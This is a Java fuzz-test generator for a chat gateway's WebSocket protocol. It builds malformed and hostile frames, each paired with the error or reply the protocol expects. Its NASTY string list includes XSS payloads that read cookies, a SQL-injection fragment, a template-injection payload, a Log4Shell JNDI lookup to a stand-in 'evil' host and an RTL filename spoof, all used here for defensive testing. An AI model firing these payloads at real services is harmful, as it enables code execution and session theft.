package dev.huddle.launcher;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.huddle.events.RequestTypes;
import dev.huddle.json.Json;

import java.nio.charset.StandardCharsets;
import java.text.Normalizer;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.Set;
import java.util.function.Predicate;

/**
 * Makes randomized hostile frames for one connection, each with the answer protocol.md prescribes for it: a
 * {@code reply} with the frame's ref (ok, or an error code), or else pushes ({@code error {code, about?}},
 * {@code pong}, the sender's own copy of a chat). One defect per frame, so the expected code is unambiguous.
 */
final class HostileFrames {
    /** What one connection knows: its own room and nickname, and peers it does not share a room with. */
    static final class Target {
        final String room;
        final String peerId;
        String nickname; // as rooms-service holds it: NFC, trimmed
        final String strangersRoom;
        final String strangersPassword;
        final List<String> strangers;

        Target(String room, String peerId, String nickname, String strangersRoom, String strangersPassword,
               List<String> strangers) {
            this.room = room;
            this.peerId = peerId;
            this.nickname = nickname;
            this.strangersRoom = strangersRoom;
            this.strangersPassword = strangersPassword;
            this.strangers = strangers;
        }
    }

    /**
     * One frame to send (text, or binary when {@code binary} is set) and its answer: a reply to {@code ref} that is
     * {@code "ok"} or an error code, and/or the pushes in {@code pushes} ({@code error|code|about},
     * {@code pong}, {@code chat|text}). {@code replyCheck}: more about an ok reply's data.
     */
    record Case(String category, String text, byte[] binary, String ref, String reply, List<String> pushes,
                Predicate<JsonNode> replyCheck) {
        /** Whether a service, not the gateway, gives the answer (through Kafka: it can be late). */
        boolean answeredByService() {
            return reply != null && Set.of("ok", "not_in_room", "unknown_peer", "wrong_password").contains(reply)
                    && !"ping".equals(Json.tree(text).path("type").asText());
        }

        String shown() {
            String s = binary != null ? "binary " + binary.length + " bytes" : text;
            return category + ": " + (s.length() > 160 ? s.substring(0, 160) + "... (" + s.length() + ")" : s);
        }
    }

    /** What a request does when its ref is fine: succeeds (with more checks), or fails with a code. */
    private record Outcome(String code, Predicate<JsonNode> check, List<String> pushes) {
        static Outcome ok() {
            return new Outcome(null, d -> true, List.of());
        }

        static Outcome ok(Predicate<JsonNode> check) {
            return new Outcome(null, check, List.of());
        }

        static Outcome fails(String code) {
            return new Outcome(code, null, List.of());
        }
    }

    static final String[] CATEGORIES = {"malformed-json", "non-object-json", "no-string-type", "unknown-type",
            "bad-ref", "data-not-object", "wrong-fields", "huge-strings", "binary", "strangers", "html-and-control",
            "ping-echo", "null-fields", "lone-surrogate", "over-limits"};
    // Most frames are refused by the gateway itself; about one in eight goes on to a service through Kafka.
    private static final int[] WEIGHTS = {8, 5, 5, 8, 5, 5, 20, 3, 5, 6, 7, 5, 3, 3, 3};
    /** Stands for an unpaired surrogate, written as a JSON escape (no Java string can carry it to the wire). */
    private static final String LONE = "@@LONE@@";

    /** Text that a careless client or server would turn into markup, or that terminals and logs choke on. */
    static final String[] NASTY = {
            "<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>", "\"><svg onload=alert(1)>",
            "</textarea><b>bold</b>", "&lt;not a tag&gt; &amp; &#60;", "javascript:alert(1)", "' OR 1=1 --",
            "{{constructor.constructor('alert(1)')()}}", "${jndi:ldap://evil/x}", "\u0000nul", "bell\u0007",
            "esc\u001b[31mred", "line\r\nbreak", "tab\tbed", "rtl \u202egnp.exe", "zero\u200bwidth", "e\u0301 not NFC",
            "\\\" backslash quote", "emoji \uD83D\uDE00\uD83D\uDC4D\uD83C\uDFFD", "\uFEFFbom", "\u00A0nbsp\u00A0",
            "<!-- comment -->", "<style>*{display:none}</style>", "\uD800\uDC00 first astral", "\u2028\u2029 separators",
    };

    private final Random rnd;
    private final Target t;
    private final String refPrefix;
    private int refs;
    private int guesses;

    HostileFrames(Random rnd, Target target, String refPrefix) {
        this.rnd = rnd;
        this.t = target;
        this.refPrefix = refPrefix;
    }

    Case next() {
        int total = 0;
        for (int w : WEIGHTS) {
            total += w;
        }
        int pick = rnd.nextInt(total);
        int i = 0;
        while (pick >= WEIGHTS[i]) {
            pick -= WEIGHTS[i++];
        }
        return switch (CATEGORIES[i]) {
            case "malformed-json" -> badFrame("malformed-json", malformed());
            case "non-object-json" -> badFrame("non-object-json", oneOf("[]", "[{\"type\":\"ping\",\"ref\":\"x\"}]",
                    "42", "-1.5e3", "\"ping\"", "null", "true", "false", "  [1, 2, 3]  ", "\"<script>\""));
            case "no-string-type" -> noStringType();
            case "unknown-type" -> unknownType();
            case "bad-ref" -> badRef();
            case "data-not-object" -> dataNotObject();
            case "wrong-fields" -> wrongFields();
            case "huge-strings" -> hugeStrings();
            case "binary" -> binary();
            case "strangers" -> strangers();
            case "html-and-control" -> htmlAndControl();
            case "ping-echo" -> pingEcho();
            case "null-fields" -> nullFields();
            case "lone-surrogate" -> loneSurrogate();
            case "over-limits" -> overLimits();
            default -> throw new IllegalStateException(CATEGORIES[i]);
        };
    }

    // ---- frames that never become requests: bad_frame push, never a reply, no about ----

    private Case badFrame(String category, String text) {
        return new Case(category, text, null, null, null, List.of("error|bad_frame|"), null);
    }

    private String malformed() {
        String valid = "{\"type\":\"ping\",\"ref\":\"" + nextRef() + "\",\"data\":{\"t\":\"x\"}}";
        return switch (rnd.nextInt(12)) {
            case 0 -> "";
            case 1 -> valid.substring(0, 1 + rnd.nextInt(valid.length() - 1)); // cut short: never closed
            case 2 -> valid + " trailing";
            case 3 -> valid + valid;
            case 4 -> "{'type':'ping'}";
            case 5 -> "{\"type\":\"ping\",}";
            case 6 -> "{\"type\":\"chat\",\"data\":{\"room\":\"r\",\"text\":\"raw\ttab\"}}"; // unescaped control
            case 7 -> "[".repeat(1500) + "]".repeat(1500); // deeper than the parser allows
            case 8 -> "{\"type\":\"ping\",\"data\":" + "{\"a\":".repeat(1200) + "1" + "}".repeat(1200); // one short
            case 9 -> "{\"type\":\"ping\" \"ref\":\"r\"}";
            case 10 -> "<html><body>" + oneOf(NASTY) + "</body></html>";
            default -> randomAscii(1 + rnd.nextInt(80)).replace("{", "(");
        };
    }

    /**
     * Objects without a string type: a push, or with a usable ref the one reply that ref is owed (with an unusable
     * ref, the invalid_field push that any frame with one gets).
     */
    private Case noStringType() {
        String ref = nextRef();
        int kind = rnd.nextInt(8);
        if (kind == 4) { // an unusable ref is judged first: not processed, an invalid_field push
            return new Case("no-string-type", "{\"type\":[\"ping\"],\"ref\":5}", null, null, null,
                    List.of("error|invalid_field|"), null);
        }
        String withRef = switch (kind) {
            case 0 -> "{}";
            case 1 -> "{\"ref\":\"" + ref + "\"}";
            case 2 -> "{\"type\":7,\"ref\":\"" + ref + "\"}";
            case 3 -> "{\"type\":null,\"data\":{}}";
            case 5 -> "{\"type\":{\"name\":\"join\"},\"data\":{\"room\":\"r\",\"nickname\":\"n\"}}";
            case 6 -> "{\"type\":true,\"ref\":\"" + ref + "\"}";
            default -> "{\"Type\":\"ping\",\"ref\":\"" + ref + "\"}";
        };
        return withRef.contains("\"" + ref + "\"")
                ? new Case("no-string-type", withRef, null, ref, "bad_frame", List.of(), null)
                : badFrame("no-string-type", withRef);
    }

    // ---- requests ----

    private Case unknownType() {
        String type = switch (rnd.nextInt(12)) {
            case 0 -> "";
            case 1 -> oneOf("reply", "hello", "error", "pong", "peer_joined", "signal_all", "admin", "kick");
            case 2 -> oneOf("PING", "Join", " ping", "ping ", "join\u0000", "chat\n");
            case 3 -> oneOf(NASTY);
            case 4 -> "__proto__";
            case 5 -> "constructor";
            case 6 -> "x".repeat(100 + rnd.nextInt(5000));
            case 7 -> "\uD83D\uDE00".repeat(30); // astral characters, cut when quoted in the message
            case 8 -> "é".repeat(39) + "\uD83D\uDE00"; // a pair across the 40-character cut of the message
            default -> randomUnicode(1 + rnd.nextInt(20));
        };
        ObjectNode frame = Json.object();
        frame.put("type", type);
        if (rnd.nextBoolean()) {
            frame.set("data", rnd.nextBoolean() ? Json.object() : Json.toTree(List.of(1, 2)));
        }
        return request("unknown-type", frame, type, Outcome.fails("unknown_type"));
    }

    /** A ref that is not a string of 1 to 32 characters: the frame is not processed, whatever it asks. */
    private Case badRef() {
        ObjectNode frame = validRequest();
        if (rnd.nextBoolean()) { // not processed, so any type will do, with any data
            frame.put("type", oneOf(RequestTypes.ALL));
        }
        String type = frame.get("type").asText();
        String ref = null;
        switch (rnd.nextInt(8)) {
            case 0 -> frame.put("ref", 7);
            case 1 -> frame.put("ref", "");
            case 2 -> frame.put("ref", "r".repeat(33));
            case 3 -> frame.set("ref", Json.object().put("id", "1"));
            case 4 -> frame.set("ref", Json.toTree(List.of("1")));
            case 5 -> frame.put("ref", true);
            case 6 -> frame.put("ref", "\uD83D\uDE00".repeat(33)); // 33 characters, 66 UTF-16 units
            default -> frame.put("ref", 1.5);
        }
        return new Case("bad-ref", Json.write(frame), null, ref, null, List.of("error|invalid_field|" + type), null);
    }

    /**
     * Well-formed JSON over a limit of the gateway's tree reader: nested deeper than 1000 levels, a number of more
     * than 1000 digits, or a field name of more than 50,000 characters. Still a request of its type, refused
     * {@code invalid_field} by its reply, or by a push about it without a ref.
     */
    private Case overLimits() {
        String type = oneOf(RequestTypes.ALL);
        String data = switch (rnd.nextInt(3)) {
            case 0 -> {
                int depth = 1001 + rnd.nextInt(3000);
                yield "\"data\":{\"t\":" + "[".repeat(depth) + "]".repeat(depth) + "}";
            }
            case 1 -> "\"data\":{\"room\":\"r\",\"t\":" + (rnd.nextBoolean() ? "-" : "")
                    + "9".repeat(1001 + rnd.nextInt(40_000)) + (rnd.nextBoolean() ? ".5e-7" : "") + "}";
            default -> "\"data\":{\"" + "k".repeat(50_001 + rnd.nextInt(5_000)) + "\":true}";
        };
        if (rnd.nextBoolean()) {
            String ref = nextRef();
            return new Case("over-limits", "{\"type\":\"" + type + "\",\"ref\":\"" + ref + "\"," + data + "}", null,
                    ref, "invalid_field", List.of(), null);
        }
        return new Case("over-limits", "{\"type\":\"" + type + "\"," + data + "}", null, null, null,
                List.of("error|invalid_field|" + type), null);
    }

    private Case dataNotObject() {
        ObjectNode frame = Json.object();
        String type = oneOf(RequestTypes.ALL); // every request type: a new one is fuzzed here at once
        frame.put("type", type);
        frame.set("data", Json.toTree(oneOfObj(5, "data", List.of(), List.of(Json.object()), true, 0.5)));
        return request("data-not-object", frame, type, Outcome.fails("invalid_field"));
    }

    private Case wrongFields() {
        // Every request type with fields to get wrong (ping's t may be anything); join twice as often.
        List<String> types = new ArrayList<>(RequestTypes.ALL);
        types.remove(RequestTypes.PING);
        types.add(RequestTypes.JOIN);
        String type = oneOf(types);
        ObjectNode d = Json.object();
        switch (type) {
            case "hand" -> {
                d.put("room", t.room);
                switch (rnd.nextInt(3)) {
                    case 0 -> { } // no raised
                    case 1 -> d.set("raised", Json.toTree(oneOfObj("true", 1, 0, List.of(true), Json.object(), "")));
                    default -> d.put("room", oneOf("", "a/b", "r".repeat(65))).put("raised", true);
                }
            }
            case "react" -> {
                d.put("room", t.room);
                switch (rnd.nextInt(3)) {
                    case 0 -> { } // no emoji
                    case 1 -> d.set("emoji", Json.toTree(oneOfObj(1, true, List.of("\uD83D\uDC4D"), Json.object())));
                    default -> d.put("emoji", oneOf("\u2764", "\u2764\uFE0F\u2764\uFE0F", " \uD83D\uDC4D", "\uD83D\uDC4E",
                            "+1", ":tada:", "", "\uD83D\uDC4D\uD83C\uDFFD", "<b>\uD83C\uDF89</b>", "\uD83C\uDF89 "));
                }
            }
            case "join" -> {
                switch (rnd.nextInt(14)) {
                    case 0 -> d.put("nickname", "n");
                    case 1 -> d.put("room", 5).put("nickname", "n");
                    case 2 -> d.put("room", "   ").put("nickname", "n");
                    case 3 -> d.put("room", "r".repeat(65)).put("nickname", "n");
                    case 4 -> d.put("room", oneOf("<b>x</b>", "a/b", "a:b", "room\u0000", "a\u200bb", "💥"))
                            .put("nickname", "n");
                    case 5 -> d.put("room", t.room);
                    case 6 -> d.put("room", t.room).put("nickname", "n".repeat(33));
                    case 7 -> d.put("room", t.room).put("nickname", oneOf("bell\u0007", "a\nb", "\u0000", "x\u009b"));
                    case 8 -> d.put("room", t.room).put("nickname", oneOf(" ", "\u00A0\u2003", ""));
                    case 9 -> d.put("room", t.room).put("nickname", 42);
                    case 10 -> d.put("room", t.room).put("nickname", "n").put("password", "p".repeat(129));
                    case 11 -> d.put("room", t.room).put("nickname", "n").set("media",
                            Json.toTree(oneOfObj(true, "audio", 1, List.of(true, false, false))));
                    case 12 -> d.put("room", t.room).put("nickname", "n").set("media", Json.object()
                            .set(oneOf("audio", "video", "screen"), Json.toTree(oneOfObj("true", 1, 0, List.of(), Json.object()))));
                    default -> d.put("room", t.room).put("nickname", "n").put("private", "yes");
                }
            }
            case "leave" -> {
                if (rnd.nextBoolean()) {
                    d.put("room", oneOf("", "#general", "r".repeat(70)));
                } else {
                    d.set("room", Json.toTree(List.of(t.room)));
                }
            }
            case "rename" -> {
                switch (rnd.nextInt(4)) {
                    case 0 -> d.put("room", t.room);
                    case 1 -> d.put("room", t.room).put("nickname", "n".repeat(33 + rnd.nextInt(100)));
                    case 2 -> d.put("room", t.room).put("nickname", "<b>\u0001</b>");
                    default -> d.put("room", "no/slash").put("nickname", "ok");
                }
            }
            case "media" -> {
                d.put("room", t.room).put("audio", true).put("video", false).put("screen", false);
                String kind = oneOf("audio", "video", "screen");
                if (rnd.nextBoolean()) {
                    d.remove(kind);
                } else {
                    d.set(kind, Json.toTree(oneOfObj("true", 1, List.of(true), Json.object())));
                }
            }
            case "signal" -> {
                d.put("room", t.room).put("to", oneOf(t.strangers));
                switch (rnd.nextInt(11)) {
                    case 0 -> d.remove("to");
                    case 1 -> d.put("to", "p".repeat(65));
                    case 2 -> d.put("to", 5);
                    case 3 -> { } // neither description nor candidate
                    case 4 -> d.set("description", Json.object().put("type", oneOf("bogus", "OFFER", "")).put("sdp", "v=0"));
                    case 5 -> d.put("description", "v=0");
                    case 6 -> d.set("description", Json.object().put("type", "offer").put("sdp", 5));
                    case 7 -> d.set("description", Json.object().put("type", "answer"));
                    case 8 -> d.put("candidate", "candidate:1 1 udp 1 1.2.3.4 5 typ host");
                    case 9 -> d.set("candidate", Json.object().put("sdpMid", "0"));
                    default -> d.set("candidate", Json.object().put("candidate", "c")
                            .put("sdpMLineIndex", oneOfInt(-1, 65536, Integer.MAX_VALUE)));
                }
            }
            case "chat" -> {
                d.put("room", t.room);
                switch (rnd.nextInt(6)) {
                    case 0 -> { } // no text
                    case 1 -> d.put("text", "");
                    case 2 -> d.put("text", "t".repeat(2001 + rnd.nextInt(3000)));
                    case 3 -> d.put("text", 5);
                    case 4 -> d.put("text", "hi").put("to", oneOf("", "p".repeat(65)));
                    default -> d.put("text", "hi").put("to", 7);
                }
            }
            case "list_rooms" -> {
                if (rnd.nextBoolean()) {
                    d.set("limit", Json.toTree(oneOfObj(0, 201, -1, "5", 1.5, 10_000_000_000L, List.of(5))));
                } else {
                    d.set("watch", Json.toTree(oneOfObj("true", 1, 0, List.of())));
                }
            }
            case "resume" -> d.put("resumeToken", oneOf("x", "abc.def", t.peerId + ".AAAAAAAAAAAAAAAAAAAAAAAA"));
            default -> throw new IllegalStateException("No wrong fields for the request type '" + type
                    + "': add its case here");
        }
        ObjectNode frame = Json.object();
        frame.put("type", type);
        frame.set("data", d);
        return request("wrong-fields", frame, type, Outcome.fails("invalid_field"));
    }

    /** Long strings that still fit the frame limit: refused by the field rules, never by a crash or a close. */
    private Case hugeStrings() {
        int big = 20_000 + rnd.nextInt(40_000);
        ObjectNode d = Json.object();
        String type;
        switch (rnd.nextInt(5)) {
            case 0 -> {
                type = "join";
                d.put("room", t.room).put("nickname", "<" + "n".repeat(big) + ">");
            }
            case 1 -> {
                type = "join";
                d.put("room", "r".repeat(big)).put("nickname", "n");
            }
            case 2 -> {
                type = "signal";
                d.put("room", t.room).put("to", oneOf(t.strangers));
                d.set("description", Json.object().put("type", "offer").put("sdp", "a".repeat(32 * 1024 + 1 + rnd.nextInt(20_000))));
            }
            case 3 -> {
                type = "chat";
                d.put("room", t.room).put("text", "<p>" + "x".repeat(big) + "</p>");
            }
            default -> {
                type = "signal";
                d.put("room", t.room).put("to", oneOf(t.strangers));
                d.set("candidate", Json.object().put("candidate", "c".repeat(2049 + rnd.nextInt(big))));
            }
        }
        ObjectNode frame = Json.object();
        frame.put("type", type);
        frame.set("data", d);
        return request("huge-strings", frame, type, Outcome.fails("invalid_field"));
    }

    private Case binary() {
        byte[] bytes;
        if (rnd.nextBoolean()) {
            bytes = ("{\"type\":\"ping\",\"ref\":\"" + nextRef() + "\"}").getBytes(StandardCharsets.UTF_8);
        } else {
            bytes = new byte[rnd.nextInt(2000)];
            rnd.nextBytes(bytes);
        }
        return new Case("binary", null, bytes, null, null, List.of("error|bad_frame|"), null);
    }

    /** Requests about rooms the sender is not in and peers it shares no room with: refused by the services. */
    private Case strangers() {
        ObjectNode d = Json.object();
        String type;
        Outcome outcome;
        String stranger = oneOf(t.strangers);
        switch (rnd.nextInt(9)) {
            case 0 -> {
                type = "signal";
                d.put("room", t.strangersRoom).put("to", stranger);
                d.set("description", Json.object().put("type", "offer").put("sdp", "v=0 " + oneOf(NASTY)));
                outcome = Outcome.fails("not_in_room");
            }
            case 1 -> {
                type = "signal";
                d.put("room", t.room).put("to", stranger);
                d.set("candidate", Json.object().put("candidate", "candidate:1 1 udp 1 6.6.6.6 666 typ host"));
                outcome = Outcome.fails("unknown_peer");
            }
            case 2 -> {
                type = "chat";
                d.put("room", t.strangersRoom).put("text", oneOf(NASTY));
                outcome = Outcome.fails("not_in_room");
            }
            case 3 -> {
                type = "chat";
                d.put("room", t.room).put("text", "psst").put("to", stranger);
                outcome = Outcome.fails("unknown_peer");
            }
            case 4 -> {
                type = "chat";
                d.put("room", "nobody here " + rnd.nextInt(1000)).put("text", "hello?");
                outcome = Outcome.fails("not_in_room");
            }
            case 5 -> {
                type = oneOf("leave", "media", "rename");
                d.put("room", t.strangersRoom);
                if (type.equals("media")) {
                    d.put("audio", true).put("video", true).put("screen", true);
                } else if (type.equals("rename")) {
                    d.put("nickname", "<i>Imposter</i>");
                }
                outcome = Outcome.fails("not_in_room");
            }
            case 6 -> {
                type = "join"; // the strangers' room has a password
                d.put("room", t.strangersRoom).put("nickname", "<b>Crasher</b>");
                // At most 4 guesses a connection: the fifth wrong one would make the rest rate_limited
                // (ProtocolRevisionTest covers that), and a join without a password is no guess.
                if (guesses < 4 && rnd.nextBoolean()) {
                    guesses++;
                    d.put("password", t.strangersPassword + "x");
                }
                outcome = Outcome.fails("wrong_password");
            }
            case 7 -> {
                type = "signal";
                d.put("room", t.room).put("to", "p" + Long.toHexString(rnd.nextLong()));
                d.set("description", Json.object().put("type", "rollback"));
                outcome = Outcome.fails("unknown_peer");
            }
            default -> {
                type = "media";
                d.put("room", "never joined " + rnd.nextInt(1000)).put("audio", false).put("video", false)
                        .put("screen", true);
                outcome = Outcome.fails("not_in_room");
            }
        }
        ObjectNode frame = Json.object();
        frame.put("type", type);
        frame.set("data", d);
        return request("strangers", frame, type, outcome);
    }

    /** HTML and control characters where the protocol allows them: kept verbatim (nicknames: NFC and trimmed). */
    private Case htmlAndControl() {
        ObjectNode d = Json.object();
        ObjectNode frame = Json.object();
        switch (rnd.nextInt(6)) {
            case 0, 1, 2 -> {
                String text = oneOf(NASTY) + (rnd.nextBoolean() ? "" : " " + oneOf(NASTY));
                d.put("room", t.room).put("text", text);
                frame.put("type", "chat");
                frame.set("data", d);
                // the sender gets the room's chat push too, with or without ref
                Outcome ok = new Outcome(null, r -> r.path("id").isTextual() && r.path("ts").isNumber(),
                        List.of("chat|" + text));
                return request("html-and-control", frame, "chat", ok);
            }
            case 3, 4 -> {
                String raw = htmlNickname();
                String normal = normalise(raw);
                d.put("room", t.room).put("nickname", raw);
                frame.put("type", "rename");
                frame.set("data", d);
                t.nickname = normal; // renames take effect in the order sent
                return requestWithRef("html-and-control", frame, Outcome.ok());
            }
            default -> {
                // joining one's own room again changes nothing: the reply shows the nickname as it is
                String current = t.nickname;
                d.put("room", t.room).put("nickname", htmlNickname());
                frame.put("type", "join");
                frame.set("data", d);
                return requestWithRef("html-and-control", frame, Outcome.ok(r ->
                        current.equals(r.path("self").path("nickname").asText())
                                && t.room.equals(r.path("room").asText())));
            }
        }
    }

    static String htmlNickname(Random rnd) {
        String[] names = {"<b>Ann</b>", "<script>x</script>", "Bob & <i>Co</i>", "\"quoted\"", "O'Brien",
                "  padded  ", "\u00A0nbsp\u2003", "Zoe\u0301", "Ame\u0301lie <3", "<img src=x>", "\u202eevil",
                "&amp;&lt;", "\uD83D\uDE00 <emoji>"};
        return names[rnd.nextInt(names.length)];
    }

    private String htmlNickname() {
        return htmlNickname(rnd);
    }

    /** protocol.md "Validation": NFC, then trimmed of Unicode white space. */
    static String normalise(String s) {
        String n = Normalizer.normalize(s, Normalizer.Form.NFC);
        int start = 0;
        int end = n.length();
        while (start < end && (Character.isWhitespace(n.charAt(start)) || Character.isSpaceChar(n.charAt(start)))) {
            start++;
        }
        while (end > start && (Character.isWhitespace(n.charAt(end - 1)) || Character.isSpaceChar(n.charAt(end - 1)))) {
            end--;
        }
        return n.substring(start, end);
    }

    /** A ping's {@code t} (any JSON value) comes back as it was. */
    private Case pingEcho() {
        JsonNode value = switch (rnd.nextInt(9)) {
            case 0 -> Json.toTree(oneOf(NASTY));
            case 1 -> Json.toTree(rnd.nextLong());
            case 2 -> Json.toTree(List.of(1, "two", true, Json.object()));
            case 3 -> Json.object().put("<b>", "</b>").put("n", 0.25);
            case 4 -> Json.toTree(false);
            case 5 -> nested(50 + rnd.nextInt(300));
            case 6 -> Json.toTree(randomUnicode(1 + rnd.nextInt(200)));
            case 7 -> Json.toTree("\\ufffd escaped replacement: \uFFFD " + LONE); // written as escapes
            default -> Json.toTree(rnd.nextDouble() * 1e6);
        };
        ObjectNode frame = Json.object();
        frame.put("type", "ping");
        frame.set("data", Json.object().set("t", value));
        if (rnd.nextInt(3) == 0) { // without ref: a pong push
            return new Case("ping-echo", write(frame), null, null, null, List.of("pong"), null);
        }
        String ref = nextRef();
        frame.put("ref", ref);
        String text = write(frame);
        JsonNode sent = Json.tree(text).at("/data/t"); // what the gateway reads, escapes decoded
        return new Case("ping-echo", text, null, ref, "ok", List.of(),
                r -> sent.equals(r.get("t")) && r.path("serverTime").isNumber());
    }

    /** {@code null} counts as absent for every optional field. */
    private Case nullFields() {
        return switch (rnd.nextInt(4)) {
            case 0 -> new Case("null-fields", "{\"type\":\"ping\",\"ref\":null,\"data\":null}", null, null, null,
                    List.of("pong"), null);
            case 1 -> {
                String ref = nextRef();
                yield new Case("null-fields", "{\"type\":\"ping\",\"ref\":\"" + ref + "\",\"data\":{\"t\":null}}",
                        null, ref, "ok", List.of(), r -> !r.has("t") || r.get("t").isNull());
            }
            case 2 -> {
                String text = "null to " + rnd.nextInt(1000);
                String ref = nextRef();
                yield new Case("null-fields", "{\"type\":\"chat\",\"ref\":\"" + ref + "\",\"data\":{\"room\":"
                        + Json.write(t.room) + ",\"text\":\"" + text + "\",\"to\":null}}", null, ref, "ok",
                        List.of("chat|" + text), r -> r.path("id").isTextual());
            }
            default -> {
                String ref = nextRef();
                yield new Case("null-fields", "{\"type\":\"join\",\"ref\":\"" + ref + "\",\"data\":null}", null,
                        ref, "invalid_field", List.of(), null);
            }
        };
    }

    /**
     * JSON can escape half a surrogate pair ("\\ud800"), which is no character: refused wherever the protocol
     * asks for text, never echoed into a frame as something else.
     */
    private Case loneSurrogate() {
        ObjectNode d = Json.object();
        String type;
        Outcome outcome = Outcome.fails("invalid_field");
        switch (rnd.nextInt(5)) {
            case 0 -> {
                type = "chat";
                d.put("room", t.room).put("text", "half " + LONE + " pair");
            }
            case 1 -> {
                type = "rename";
                d.put("room", t.room).put("nickname", "Ann" + LONE);
            }
            case 2 -> {
                type = "join";
                d.put("room", "room" + LONE).put("nickname", "n");
            }
            case 3 -> { // a ref that is no string of characters: not processed, an error push
                ObjectNode frame = validRequest();
                frame.put("ref", "r" + LONE);
                return new Case("lone-surrogate", write(frame), null, null, null,
                        List.of("error|invalid_field|" + frame.get("type").asText()), null);
            }
            default -> { // no peer has such an id
                type = "signal";
                d.put("room", t.room).put("to", "peer" + LONE);
                d.set("candidate", Json.object().put("candidate", "c"));
                outcome = Outcome.fails("unknown_peer");
            }
        }
        ObjectNode frame = Json.object();
        frame.put("type", type);
        frame.set("data", d);
        return request("lone-surrogate", frame, type, outcome);
    }

    // ---- ref policy ----

    /**
     * The frame with a usable ref (a reply, exactly once), or none (failures become an error push with
     * {@code about}; success of a chat is seen in its push, of a ping in a pong).
     */
    private Case request(String category, ObjectNode frame, String type, Outcome outcome) {
        boolean withRef = outcome.code == null && !type.equals("chat") && !type.equals("ping") || rnd.nextInt(10) < 6;
        if (withRef) {
            return requestWithRef(category, frame, outcome);
        }
        if (rnd.nextInt(4) == 0) {
            frame.putNull("ref");
        }
        List<String> pushes = new ArrayList<>(outcome.pushes);
        if (outcome.code != null) {
            pushes.add("error|" + outcome.code + "|" + type);
        } else if (type.equals("ping")) {
            pushes.add("pong");
        }
        return new Case(category, write(frame), null, null, null, pushes, null);
    }

    private Case requestWithRef(String category, ObjectNode frame, Outcome outcome) {
        String ref = nextRef();
        ObjectNode withRef = Json.object();
        withRef.put("ref", ref); // first, so the field order varies with the other fields
        withRef.setAll(frame);
        ObjectNode out = rnd.nextBoolean() ? withRef : frame.put("ref", ref);
        return new Case(category, write(out), null, ref, outcome.code == null ? "ok" : outcome.code,
                outcome.pushes, outcome.check);
    }

    /**
     * The frame's JSON, with {@link #LONE} as an escaped unpaired surrogate, and U+FFFD escaped: the gateway only
     * sees decoded text, where a literal U+FFFD looks like the replacement of invalid UTF-8 (closed with 1007).
     */
    private static String write(ObjectNode frame) {
        return Json.write(frame).replace(LONE, "\\ud800").replace("\uFFFD", "\\ufffd");
    }

    /** A request that would be valid (used where another defect must be the only one). */
    private ObjectNode validRequest() {
        ObjectNode frame = Json.object();
        switch (rnd.nextInt(3)) {
            case 0 -> frame.put("type", "ping");
            case 1 -> frame.put("type", "chat").set("data", Json.object().put("room", t.room).put("text", "hi"));
            default -> frame.put("type", "media").set("data", Json.object().put("room", t.room)
                    .put("audio", true).put("video", true).put("screen", false));
        }
        return frame;
    }

    String nextRef() {
        String ref = refPrefix + (++refs);
        return ref.length() > 32 ? ref.substring(ref.length() - 32) : ref;
    }

    // ---- randomness ----

    private static JsonNode nested(int depth) {
        JsonNode inner = Json.toTree("<deep>");
        for (int i = 0; i < depth; i++) {
            ArrayNode a = Json.MAPPER.createArrayNode();
            a.add(inner);
            inner = a;
        }
        return inner;
    }

    private String randomAscii(int n) {
        StringBuilder b = new StringBuilder();
        for (int i = 0; i < n; i++) {
            b.append((char) (32 + rnd.nextInt(95)));
        }
        return b.toString();
    }

    /** Well-formed text from all over Unicode (letters, symbols, astral planes), no unpaired surrogates. */
    private String randomUnicode(int n) {
        StringBuilder b = new StringBuilder();
        while (b.length() < n) {
            int cp = switch (rnd.nextInt(4)) {
                case 0 -> 32 + rnd.nextInt(95);
                case 1 -> 0xA0 + rnd.nextInt(0x2000);
                case 2 -> 0x1F300 + rnd.nextInt(0x300);
                default -> 0x4E00 + rnd.nextInt(0x5000);
            };
            b.appendCodePoint(cp);
        }
        return b.toString();
    }

    @SafeVarargs
    private <T> T oneOf(T... options) {
        return options[rnd.nextInt(options.length)];
    }

    private String oneOf(List<String> options) {
        return options.get(rnd.nextInt(options.size()));
    }

    private Object oneOfObj(Object... options) {
        return options[rnd.nextInt(options.length)];
    }

    private int oneOfInt(int... options) {
        return options[rnd.nextInt(options.length)];
    }
}
